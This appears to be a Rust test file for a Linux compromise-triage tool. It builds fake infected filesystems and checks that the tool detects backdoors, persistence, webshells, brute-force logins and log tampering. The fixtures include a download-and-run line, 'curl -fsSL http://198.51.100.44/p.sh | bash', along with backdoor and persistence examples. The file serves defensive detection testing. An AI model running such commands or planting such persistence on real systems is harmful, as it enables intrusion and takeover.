//! End to end: a planted compromise, hostile trees, and the real OpenSSH log from loghub.

mod support;

use firewarden_model::{EventKind, Severity};
use firewarden_source::FsSource;
use firewarden_triage::TriageOptions;
use std::path::Path;
use support::*;

fn ids(r: &firewarden_model::TriageReport) -> Vec<&str> {
    r.findings.iter().map(|f| f.check.as_str()).collect()
}

#[test]
fn planted_compromise_is_reported_under_the_right_checks() {
    let dir = compromised_root();
    // A non-UTF-8 name, made here because a &str literal cannot hold one.
    use std::os::unix::ffi::OsStrExt;
    std::fs::write(
        dir.path()
            .join("tmp")
            .join(std::ffi::OsStr::from_bytes(b"bad\xffname")),
        b"x",
    )
    .unwrap();
    let src = FsSource::root(dir.path()).unwrap();
    let report = firewarden_triage::run(&src, &TriageOptions::default(), &|_| {});
    let got = ids(&report);
    for (check, what) in [
        ("linux.accounts.uid0", "UID-0 backdoor user"),
        ("linux.persistence.cron", "cron downloader"),
        ("linux.persistence.systemd", "systemd unit from /tmp"),
        ("linux.persistence.ld_preload", "ld.so.preload entry"),
        ("linux.ssh.authorized_keys", "Outlaw mdrfckr key"),
        ("linux.web.webshell", "PHP webshell"),
        ("linux.logins.brute_force", "brute force"),
        (
            "linux.logins.attacker_login",
            "success from the brute-forcing IP",
        ),
        ("linux.logs.history_commands", "wget | sh in history"),
    ] {
        assert!(
            got.contains(&check),
            "{what} not reported under {check}; got {got:?}"
        );
    }
    let s = &report.storyline;
    assert!(s.verdict.contains(ATTACKER), "verdict: {}", s.verdict);
    assert!(
        s.entry_point.as_deref().unwrap_or("").contains(ATTACKER),
        "{s:?}"
    );
    assert_eq!(s.attacker_ips.first().map(String::as_str), Some(ATTACKER));
    assert!(s.accounts.iter().any(|a| a == "root"));
    assert!(s.accounts.iter().any(|a| a == "sysadm"));
    assert!(!s.persistence.is_empty());
    assert!(s.first_activity.is_some() && s.dwell_time.is_some());
    // The timeline tells the story in order: failed logins, then the attacker's login.
    let first_fail = report
        .timeline
        .iter()
        .position(|e| e.kind == EventKind::FailedLogin)
        .expect("failed-login event");
    let login = report
        .timeline
        .iter()
        .position(|e| e.kind == EventKind::Login && e.ip.as_deref() == Some(ATTACKER))
        .expect("attacker login event");
    assert!(first_fail < login);
    // Hostile input: warnings, not panics; nothing failed.
    assert!(
        report
            .checks
            .iter()
            .all(|c| c.status != firewarden_model::CheckStatus::Failed),
        "{:?}",
        report.checks
    );
    assert!(
        report
            .warnings
            .iter()
            .any(|w| w.message.contains("binary junk")),
        "{:?}",
        report.warnings
    );
    // The legitimate key login from another address is not called an attack.
    assert!(
        !report
            .findings
            .iter()
            .any(|f| f.severity >= Severity::High && f.title.contains("198.51.100.10"))
    );
}

#[test]
fn analysis_does_not_modify_the_source() {
    let dir = compromised_root();
    let snapshot = |root: &Path| {
        let mut v = Vec::new();
        let mut stack = vec![root.to_path_buf()];
        while let Some(d) = stack.pop() {
            for e in std::fs::read_dir(&d).unwrap() {
                let e = e.unwrap();
                let m = std::fs::symlink_metadata(e.path()).unwrap();
                use std::os::unix::fs::MetadataExt;
                v.push((e.path(), m.len(), m.mtime(), m.ctime(), m.mode()));
                if m.is_dir() {
                    stack.push(e.path());
                }
            }
        }
        v.sort();
        v
    };
    let before = snapshot(dir.path());
    let src = FsSource::root(dir.path()).unwrap();
    let _ = firewarden_triage::run(&src, &TriageOptions::default(), &|_| {});
    assert_eq!(before, snapshot(dir.path()));
}

#[test]
fn loghub_openssh_verdict_is_brute_force_without_success() {
    let log = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared/data/loghub/OpenSSH/OpenSSH_2k.log");
    if !log.exists() {
        eprintln!(
            "skipping: {} not present (../shared is absent)",
            log.display()
        );
        return;
    }
    let empty = tempfile::tempdir().unwrap();
    let src = FsSource::root(empty.path()).unwrap();
    let opts = TriageOptions {
        only: vec!["linux.logins".into()],
        auth_logs: vec![log],
        ..Default::default()
    };
    let report = firewarden_triage::run(&src, &opts, &|_| {});
    assert!(
        report.storyline.verdict.starts_with(
            "brute force from 183.62.140.253 and others; no successful login by a brute-forcing IP"
        ),
        "verdict: {}",
        report.storyline.verdict
    );
    assert!(
        !report
            .findings
            .iter()
            .any(|f| f.check == "linux.logins.attacker_login"),
        "{:?}",
        report.findings
    );
    let top = report
        .findings
        .iter()
        .find(|f| f.check == "linux.logins.brute_force")
        .unwrap();
    assert!(
        top.title.contains("183.62.140.253") && top.title.contains("286"),
        "{}",
        top.title
    );
    assert_eq!(report.storyline.entry_point, None);
}

#[test]
fn loghub_linux_pam_failures_are_counted() {
    let log = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared/data/loghub/Linux/Linux_2k.log");
    if !log.exists() {
        eprintln!("skipping: shared data not present");
        return;
    }
    let empty = tempfile::tempdir().unwrap();
    let src = FsSource::root(empty.path()).unwrap();
    let opts = TriageOptions {
        only: vec!["linux.logins.brute_force".into()],
        auth_logs: vec![log],
        ..Default::default()
    };
    let report = firewarden_triage::run(&src, &opts, &|_| {});
    assert!(!report.findings.is_empty());
    assert!(
        report.storyline.verdict.contains("brute force from"),
        "{}",
        report.storyline.verdict
    );
}

#[test]
fn mounted_image_without_proc_skips_live_checks_with_a_reason() {
    let dir = build(vec![file("/etc/passwd", PASSWD)]);
    let report = firewarden_triage::run(
        &FsSource::root(dir.path()).unwrap(),
        &TriageOptions::default(),
        &|_| {},
    );
    let miner = report
        .checks
        .iter()
        .find(|c| c.id == "linux.process.miner")
        .unwrap();
    assert_eq!(miner.status, firewarden_model::CheckStatus::Skipped);
    assert!(
        miner
            .reason
            .as_deref()
            .unwrap_or("")
            .contains("no process state")
    );
}

#[test]
fn since_lists_changes_inside_the_window_only() {
    let dir = build(vec![
        exe("/usr/bin/new-tool", "#!/bin/sh\n", 0o755),
        exe("/usr/bin/old-tool", "#!/bin/sh\n", 0o755),
        Item::Mtime("/usr/bin/old-tool", 1_500_000_000),
        file(
            "/var/log/auth.log",
            "2020-03-01T10:00:00+00:00 h sshd[1]: Accepted password for root from 192.0.2.50 port 1 ssh2\n",
        ),
    ]);
    let src = FsSource::root(dir.path()).unwrap();
    let since = firewarden_model::Timestamp(firewarden_model::Timestamp::now().0 - 3600);
    let only = vec![
        "linux.files.recent_changes".into(),
        "linux.logins.attacker_login".into(),
    ];
    // Without a window, the 2020 root login is on the timeline and reported.
    let all = firewarden_triage::run(
        &src,
        &TriageOptions {
            only: only.clone(),
            ..Default::default()
        },
        &|_| {},
    );
    assert!(
        all.timeline
            .iter()
            .any(|e| e.ip.as_deref() == Some("192.0.2.50"))
    );
    assert!(all.findings.iter().any(|f| f.title.contains("192.0.2.50")));
    let opts = TriageOptions {
        only,
        since: Some(since),
        ..Default::default()
    };
    let report = firewarden_triage::run(&src, &opts, &|_| {});
    let titles: Vec<&str> = report.findings.iter().map(|f| f.title.as_str()).collect();
    assert!(
        titles.iter().any(|t| t.contains("/usr/bin/new-tool")),
        "{titles:?}"
    );
    // old-tool's mtime is old but its ctime is now (the test just wrote it): ctime counts.
    assert!(
        titles.iter().any(|t| t.contains("/usr/bin/old-tool")),
        "{titles:?}"
    );
    // Events and findings from before the window are left out.
    assert!(
        !report
            .timeline
            .iter()
            .any(|e| e.ip.as_deref() == Some("192.0.2.50"))
    );
    assert!(
        !titles.iter().any(|t| t.contains("192.0.2.50")),
        "{titles:?}"
    );
    assert!(report.timeline.iter().all(|e| e.time >= since));
}

/// Attacker wiped auth.log; the journal still has the brute force and the login.
#[test]
fn journal_is_read_when_text_auth_logs_are_empty() {
    let tool = [
        "/lib/systemd/systemd-journal-remote",
        "/usr/lib/systemd/systemd-journal-remote",
    ]
    .into_iter()
    .find(|p| Path::new(p).exists());
    let Some(tool) = tool else {
        eprintln!("skipping: systemd-journal-remote is not installed");
        return;
    };
    let mut export = String::new();
    for i in 0..12u64 {
        export.push_str(&format!("__REALTIME_TIMESTAMP={}\n__MONOTONIC_TIMESTAMP={}\n_BOOT_ID=0123456789abcdef0123456789abcdef\nMESSAGE=Failed password for root from 192.0.2.77 port {} ssh2\nSYSLOG_IDENTIFIER=sshd\n\n", (1_763_600_000 + i) * 1_000_000, i + 1, 40000 + i));
    }
    export.push_str("__REALTIME_TIMESTAMP=1763600100000000\n__MONOTONIC_TIMESTAMP=100\n_BOOT_ID=0123456789abcdef0123456789abcdef\nMESSAGE=Accepted password for root from 192.0.2.77 port 41000 ssh2\nSYSLOG_IDENTIFIER=sshd\n\n");
    let dir = build(vec![
        Item::File("/var/log/auth.log", Vec::new(), 0o640),
        Item::Dir("/var/log/journal/0123456789abcdef0123456789abcdef"),
    ]);
    let journal = dir
        .path()
        .join("var/log/journal/0123456789abcdef0123456789abcdef/system.journal");
    let mut child = std::process::Command::new(tool)
        .arg("-o")
        .arg(&journal)
        .arg("-")
        .stdin(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    use std::io::Write;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(export.as_bytes())
        .unwrap();
    assert!(child.wait().unwrap().success());
    let src = FsSource::root(dir.path()).unwrap();
    let opts = TriageOptions {
        only: vec!["linux.logins".into()],
        ..Default::default()
    };
    let report = firewarden_triage::run(&src, &opts, &|_| {});
    assert!(
        report.storyline.verdict.contains("192.0.2.77"),
        "{}",
        report.storyline.verdict
    );
    let login = report
        .findings
        .iter()
        .find(|f| f.check == "linux.logins.attacker_login")
        .expect("attacker login from journal");
    assert_eq!(login.time, Some(firewarden_model::Timestamp(1_763_600_100)));
    assert!(
        login.evidence[0]
            .path
            .as_deref()
            .unwrap_or("")
            .ends_with("system.journal")
    );
}

/// `cap_setuid+ep` on a copy of python is a root backdoor without a SUID bit.
#[test]
fn capability_on_an_interpreter_is_critical() {
    let dir = build(vec![
        exe("/usr/local/bin/python3", "#!", 0o755),
        exe("/usr/bin/ping", "#!", 0o755),
    ]);
    let set = |p: &str, caps: &[&str]| {
        rustix::fs::lsetxattr(
            dir.path().join(p),
            "security.capability",
            &firewarden_artifacts::caps::encode(caps, true),
            rustix::fs::XattrFlags::empty(),
        )
    };
    if let Err(e) = set("usr/local/bin/python3", &["cap_setuid"]) {
        eprintln!(
            "skipping: cannot set security.capability here ({e}); needs root and an xattr-capable filesystem"
        );
        return;
    }
    set("usr/bin/ping", &["cap_net_raw"]).unwrap();
    let report = run_check(dir.path(), "linux.persistence.suid");
    let hits: Vec<_> = report
        .findings
        .iter()
        .filter(|f| f.check == "linux.persistence.suid")
        .collect();
    assert_eq!(hits.len(), 1, "{hits:?}");
    assert_eq!(hits[0].severity, Severity::Critical);
    assert!(hits[0].title.contains("cap_setuid+ep") && hits[0].title.contains("python3"));
}

/// Builds a one-file RPM and registers it in `root/var/lib/rpm` with the real rpm tools.
fn rpm_root(root: &Path, content: &str) -> bool {
    let (Ok(_), Ok(_)) = (
        std::process::Command::new("rpmbuild")
            .arg("--version")
            .output(),
        std::process::Command::new("rpm").arg("--version").output(),
    ) else {
        return false;
    };
    let top = root.join("rpmbuild-top");
    std::fs::create_dir_all(top.join("SPECS")).unwrap();
    let spec = format!(
        "Name: fwtool\nVersion: 1.0\nRelease: 1\nSummary: t\nLicense: MIT\nBuildArch: noarch\n%description\nt\n%install\nmkdir -p %{{buildroot}}/usr/bin\nprintf '{}' > %{{buildroot}}/usr/bin/fwtool\nchmod 755 %{{buildroot}}/usr/bin/fwtool\n%files\n/usr/bin/fwtool\n",
        content.replace('\n', "\\n")
    );
    std::fs::write(top.join("SPECS/t.spec"), spec).unwrap();
    let built = std::process::Command::new("rpmbuild")
        .arg("--define")
        .arg(format!("_topdir {}", top.display()))
        .arg("-bb")
        .arg(top.join("SPECS/t.spec"))
        .output()
        .unwrap();
    assert!(
        built.status.success(),
        "{}",
        String::from_utf8_lossy(&built.stderr)
    );
    let rpm_file = top.join("RPMS/noarch/fwtool-1.0-1.noarch.rpm");
    let db = root.join("var/lib/rpm");
    std::fs::create_dir_all(&db).unwrap();
    let st = std::process::Command::new("rpm")
        .arg("--dbpath")
        .arg(&db)
        .arg("--initdb")
        .status()
        .unwrap();
    assert!(st.success());
    let out = std::process::Command::new("rpm")
        .arg("--dbpath")
        .arg(&db)
        .args(["-i", "--nodeps", "--noscripts", "--justdb"])
        .arg(&rpm_file)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    std::fs::remove_dir_all(&top).unwrap();
    true
}

#[test]
fn rpm_database_verifies_binaries_without_running_rpm() {
    let dir = build(vec![
        exe("/usr/bin/fwtool", "#!/bin/sh\necho trojan\n", 0o755),
        bytes(
            "/usr/bin/stray",
            b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0".to_vec(),
        ),
    ]);
    if !rpm_root(dir.path(), "#!/bin/sh\necho hi\n") {
        eprintln!("skipping: rpm/rpmbuild are not installed");
        return;
    }
    std::fs::set_permissions(
        dir.path().join("usr/bin/stray"),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    let src = FsSource::root(dir.path()).unwrap();
    let opts = TriageOptions {
        only: vec!["linux.files".into()],
        ..Default::default()
    };
    let report = firewarden_triage::run(&src, &opts, &|_| {});
    let integrity: Vec<_> = report
        .findings
        .iter()
        .filter(|f| f.check == "linux.files.package_integrity")
        .collect();
    assert_eq!(
        integrity.len(),
        1,
        "{:?} {:?}",
        report.findings,
        report.checks
    );
    assert!(
        integrity[0].title.contains("/usr/bin/fwtool") && integrity[0].title.contains("fwtool")
    );
    assert!(
        integrity[0].evidence[0]
            .excerpt
            .as_deref()
            .unwrap_or("")
            .contains("Sha256")
    );
    assert!(report.findings.iter().any(
        |f| f.check == "linux.files.unowned_executables" && f.title.contains("/usr/bin/stray")
    ));
    assert!(
        !report
            .findings
            .iter()
            .any(|f| f.check == "linux.files.unowned_executables" && f.title.contains("fwtool"))
    );
    // The untouched file verifies clean.
    std::fs::write(dir.path().join("usr/bin/fwtool"), "#!/bin/sh\necho hi\n").unwrap();
    let report = firewarden_triage::run(&FsSource::root(dir.path()).unwrap(), &opts, &|_| {});
    assert!(
        !report
            .findings
            .iter()
            .any(|f| f.check == "linux.files.package_integrity"),
        "{:?}",
        report.findings
    );
}

/// A build tree in /tmp is one finding, not hundreds; a hidden dropper next to it still stands out.
#[test]
fn temp_dir_build_trees_are_summarised_and_droppers_still_stand_out() {
    let mut items = Vec::new();
    let elf = |kind: u8| {
        let mut v = b"\x7fELF\x02\x01\x01".to_vec();
        v.resize(64, 0);
        v[16] = kind;
        v
    };
    for name in ["a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k", "l"] {
        items.push(Item::File(
            Box::leak(format!("/tmp/build/target/{name}").into_boxed_str()),
            elf(3),
            0o755,
        ));
    }
    items.push(Item::File("/tmp/build/obj/main.o", elf(1), 0o644));
    items.push(Item::File("/tmp/.ICE-unix/.x/kworker", elf(2), 0o755));
    let dir = build(items);
    let report = run_check(dir.path(), "linux.files.temp_dirs");
    let titles: Vec<&str> = report.findings.iter().map(|f| f.title.as_str()).collect();
    assert_eq!(titles.len(), 2, "{titles:?}");
    assert!(
        titles
            .iter()
            .any(|t| t.starts_with("12 programs and scripts under /tmp/build")),
        "{titles:?}"
    );
    assert!(
        titles
            .iter()
            .any(|t| t.contains("/tmp/.ICE-unix/.x/kworker")),
        "{titles:?}"
    );
}

/// Quiet persistence: a cron job and a service that run a plain binary no package owns.
#[test]
fn unowned_jobs_and_services_running_unowned_programs_are_reported() {
    let dir = build(vec![
        file(
            "/var/lib/dpkg/info/cron.list",
            "/etc/crontab\n/usr/sbin/cron\n",
        ),
        file(
            "/etc/crontab",
            "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
        ),
        Item::File(
            "/var/spool/cron/crontabs/root",
            b"MAILTO=\"\"\n*/3 * * * * /usr/local/sbin/syshealth >/dev/null 2>&1\n".to_vec(),
            0o600,
        ),
        exe("/usr/local/sbin/syshealth", "#!/bin/sh\n", 0o755),
        file(
            "/etc/systemd/system/syshealth.service",
            "[Service]\nExecStart=/usr/local/sbin/syshealth --daemon\n",
        ),
        exe("/usr/sbin/cron", "#!", 0o755),
    ]);
    let src = FsSource::root(dir.path()).unwrap();
    let opts = TriageOptions {
        only: vec![
            "linux.persistence.cron".into(),
            "linux.persistence.systemd".into(),
        ],
        ..Default::default()
    };
    let report = firewarden_triage::run(&src, &opts, &|_| {});
    let cron: Vec<_> = report
        .findings
        .iter()
        .filter(|f| f.check == "linux.persistence.cron")
        .collect();
    assert_eq!(cron.len(), 1, "{cron:?}");
    assert!(cron[0].title.contains("syshealth") && cron[0].severity == Severity::Medium);
    let unit = report
        .findings
        .iter()
        .find(|f| f.check == "linux.persistence.systemd")
        .expect("unit reported");
    assert!(
        unit.title.contains("nor is the program it runs") && unit.severity == Severity::Medium,
        "{unit:?}"
    );
}

/// A line longer than a whole read block, binary junk, CRLF endings and gzip: counts and line
/// numbers stay exact and each problem is a warning.
#[test]
fn auth_log_survives_giant_lines_junk_and_gzip() {
    let mut log = Vec::new();
    for i in 0..5 {
        log.extend(format!("Nov 20 10:00:0{i} h sshd[1]: Failed password for root from 198.51.100.1 port 1 ssh2\n").bytes());
    }
    log.extend(std::iter::repeat_n(b'A', 20 << 20)); // 20 MiB without a newline
    log.push(b'\n');
    log.extend(b"\x00\x00\x00\xff\xfe junk\n");
    for i in 0..6 {
        log.extend(format!("Nov 20 10:01:0{i} h sshd[1]: Failed password for admin from 198.51.100.1 port 1 ssh2\r\n").bytes());
    }
    log.extend(
        b"Nov 20 10:02:00 h sshd[1]: Accepted password for admin from 198.51.100.1 port 1 ssh2",
    );
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    std::io::Write::write_all(&mut gz, &log).unwrap();
    for (name, data) in [
        ("/var/log/auth.log", log.clone()),
        ("/var/log/auth.log.2.gz", gz.finish().unwrap()),
    ] {
        let dir = build(vec![bytes(
            Box::leak(name.to_string().into_boxed_str()),
            data,
        )]);
        let opts = TriageOptions {
            only: vec!["linux.logins".into()],
            ..Default::default()
        };
        let report = firewarden_triage::run(&FsSource::root(dir.path()).unwrap(), &opts, &|_| {});
        let brute = report
            .findings
            .iter()
            .find(|f| f.check == "linux.logins.brute_force")
            .unwrap_or_else(|| panic!("{name}: {:?}", report.findings));
        assert!(
            brute.title.contains("11 failed attempts"),
            "{name}: {}",
            brute.title
        );
        let login = report
            .findings
            .iter()
            .find(|f| f.check == "linux.logins.attacker_login")
            .unwrap();
        assert_eq!(
            login.evidence[0].line,
            Some(14),
            "{name}: the accepted login is line 14"
        );
        assert!(
            report
                .warnings
                .iter()
                .any(|w| w.message.contains("over-long")),
            "{name}: {:?}",
            report.warnings
        );
        assert!(
            report
                .warnings
                .iter()
                .any(|w| w.message.contains("binary junk")),
            "{name}: {:?}",
            report.warnings
        );
    }
}

/// Finding ids must not depend on thread timing or hash order, even past the per-address cap
/// on remembered account names and across several parallel blocks (> 16 MiB of log).
#[test]
fn auth_findings_are_identical_across_runs_on_large_logs() {
    let mut log = String::with_capacity(40 << 20);
    let mut i = 0u64;
    while log.len() < 36 << 20 {
        log.push_str(&format!("Nov 20 10:{:02}:{:02} h sshd[1]: Failed password for invalid user u{} from 198.51.100.1 port 1 ssh2\n", (i / 60) % 60, i % 60, i / 200));
        i += 1;
    }
    let dir = build(vec![bytes("/var/log/auth.log", log.into_bytes())]);
    let opts = TriageOptions {
        only: vec!["linux.logins".into()],
        ..Default::default()
    };
    let run = || {
        let r = firewarden_triage::run(&FsSource::root(dir.path()).unwrap(), &opts, &|_| {});
        r.findings
            .iter()
            .map(|f| (f.id.clone(), f.title.clone()))
            .collect::<Vec<_>>()
    };
    let first = run();
    assert!(
        first
            .iter()
            .any(|(_, t)| t.contains("against 1000 account(s)")),
        "{first:?}"
    );
    for _ in 0..2 {
        assert_eq!(run(), first);
    }
}

/// Rotated logs: gzip is read (text and wtmp alike); xz is named in a warning, not parsed as junk.
#[test]
fn compressed_rotations_are_read_or_named() {
    let gz = |data: &[u8]| {
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        std::io::Write::write_all(&mut e, data).unwrap();
        e.finish().unwrap()
    };
    let wtmp = [
        utmp_record(7, "alice", "198.51.100.7", 1_700_000_000, [198, 51, 100, 7]),
        vec![0u8; 384],
        utmp_record(8, "", "", 1_700_000_500, [0; 4]),
    ]
    .concat();
    let dir = build(vec![
        bytes("/var/log/wtmp.1.gz", gz(&wtmp)),
        bytes(
            "/var/log/auth.log.3.xz",
            b"\xfd7zXZ\x00\x00\x04garbage".to_vec(),
        ),
        file(
            "/var/log/auth.log",
            "Nov 20 10:00:00 h sshd[1]: Server listening on 0.0.0.0 port 22.\n",
        ),
    ]);
    let opts = TriageOptions {
        only: vec!["linux.logins".into()],
        ..Default::default()
    };
    let report = firewarden_triage::run(&FsSource::root(dir.path()).unwrap(), &opts, &|_| {});
    assert!(
        report
            .findings
            .iter()
            .any(|f| f.check == "linux.logins.record_tampering"
                && f.title.contains("wtmp.1.gz")
                && f.title.contains("zeroed")),
        "{:?}",
        report.findings
    );
    assert!(
        report.warnings.iter().any(
            |w| w.path.as_deref() == Some("/var/log/auth.log.3.xz") && w.message.contains("xz")
        ),
        "{:?}",
        report.warnings
    );
}

/// The job line is innocent; the script it runs downloads and executes code.
#[test]
fn scripts_run_by_cron_and_units_are_read() {
    let script = "#!/bin/bash\n# keeps the system fresh\nsleep 5\ncurl -fsSL http://198.51.100.44/p.sh | bash\n";
    let dir = build(vec![
        exe("/usr/local/bin/refresh.sh", script, 0o755),
        file(
            "/etc/cron.d/refresh",
            "*/7 * * * * root /usr/local/bin/refresh.sh\n",
        ),
        file(
            "/etc/systemd/system/refresh.service",
            "[Service]\nExecStart=/usr/local/bin/refresh.sh --loop\n",
        ),
        exe(
            "/usr/local/bin/benign.sh",
            "#!/bin/sh\nfind /var/tmp -mtime +7 -delete\n",
            0o755,
        ),
        file(
            "/etc/cron.d/cleanup",
            "0 4 * * * root /usr/local/bin/benign.sh\n",
        ),
    ]);
    let src = FsSource::root(dir.path()).unwrap();
    let opts = TriageOptions {
        only: vec![
            "linux.persistence.cron".into(),
            "linux.persistence.systemd".into(),
        ],
        ..Default::default()
    };
    let report = firewarden_triage::run(&src, &opts, &|_| {});
    for check in ["linux.persistence.cron", "linux.persistence.systemd"] {
        let f = report
            .findings
            .iter()
            .find(|f| f.check == check)
            .unwrap_or_else(|| panic!("{check}: {:?}", report.findings));
        assert_eq!(f.severity, Severity::Critical);
        assert_eq!(
            f.evidence[0].path.as_deref(),
            Some("/usr/local/bin/refresh.sh")
        );
        assert_eq!(f.evidence[0].line, Some(4));
    }
    assert!(!report.findings.iter().any(|f| {
        f.evidence
            .iter()
            .any(|e| e.path.as_deref() == Some("/usr/local/bin/benign.sh"))
    }));
}

/// A live SSH session whose utmp record was wiped is reported; one with its record is not.
#[test]
fn ssh_session_missing_from_utmp_is_reported() {
    let utmp = [utmp_record(
        7,
        "alice",
        "198.51.100.7",
        1_700_000_000,
        [198, 51, 100, 7],
    )]
    .concat(); // on pts/0
    let mut items = vec![
        bytes("/run/utmp", utmp),
        file("/proc/uptime", "1000.0 1000.0\n"),
    ];
    items.extend(FakeProc::new(500, "sshd", "sshd: root@pts/3", "/usr/sbin/sshd").items());
    items.extend(FakeProc::new(501, "sshd", "sshd: alice@pts/0", "/usr/sbin/sshd").items());
    let dir = build(items);
    let report = run_check(dir.path(), "linux.logins.record_tampering");
    let titles: Vec<&str> = report.findings.iter().map(|f| f.title.as_str()).collect();
    assert_eq!(
        titles,
        ["SSH session of `root` on pts/3 has no utmp record"],
        "{:?}",
        report.findings
    );
}

/// A TZif v1 file for a zone with one fixed offset (seconds east of UTC).
fn fixed_zone(offset: i32, abbreviation: &[u8; 3]) -> Vec<u8> {
    let mut data = b"TZif".to_vec();
    data.extend([0u8; 16]); // version 1, reserved
    // isutcnt, isstdcnt, leapcnt, timecnt, typecnt, charcnt
    for count in [0u32, 0, 0, 0, 1, 4] {
        data.extend(count.to_be_bytes());
    }
    data.extend(offset.to_be_bytes());
    data.extend([0, 0]); // not DST, abbreviation at 0
    data.extend(abbreviation);
    data.push(0);
    data
}

#[test]
fn timeline_keeps_the_hosts_zone() {
    // Named by /etc/timezone.
    let dir = compromised_root();
    std::fs::write(
        dir.path().join("etc/localtime"),
        fixed_zone(8 * 3600, b"CST"),
    )
    .unwrap();
    std::fs::write(dir.path().join("etc/timezone"), "Asia/Shanghai\n").unwrap();
    let src = FsSource::root(dir.path()).unwrap();
    let report = firewarden_triage::run(&src, &TriageOptions::default(), &|_| {});
    assert_eq!(report.source.zone.as_deref(), Some("Asia/Shanghai"));
    assert!(!report.timeline.is_empty());
    for e in &report.timeline {
        assert_eq!(e.zone.as_deref(), Some("+08:00"), "{e:?}");
    }

    // Named by where /etc/localtime links; a hostile /etc/timezone is not taken.
    let dir = compromised_root();
    let zoneinfo = dir.path().join("usr/share/zoneinfo/Asia");
    std::fs::create_dir_all(&zoneinfo).unwrap();
    std::fs::write(
        zoneinfo.join("Kolkata"),
        fixed_zone(5 * 3600 + 1800, b"IST"),
    )
    .unwrap();
    std::os::unix::fs::symlink(
        "../usr/share/zoneinfo/Asia/Kolkata",
        dir.path().join("etc/localtime"),
    )
    .unwrap();
    std::fs::write(dir.path().join("etc/timezone"), "\u{1b}[31mred\n").unwrap();
    let src = FsSource::root(dir.path()).unwrap();
    let report = firewarden_triage::run(&src, &TriageOptions::default(), &|_| {});
    assert_eq!(report.source.zone.as_deref(), Some("Asia/Kolkata"));
    assert!(
        report
            .timeline
            .iter()
            .all(|e| e.zone.as_deref() == Some("+05:30"))
    );

    // Unknown zone: times are UTC and say nothing more.
    let dir = compromised_root();
    let src = FsSource::root(dir.path()).unwrap();
    let report = firewarden_triage::run(&src, &TriageOptions::default(), &|_| {});
    assert_eq!(report.source.zone, None);
    assert!(report.timeline.iter().all(|e| e.zone.is_none()));
}
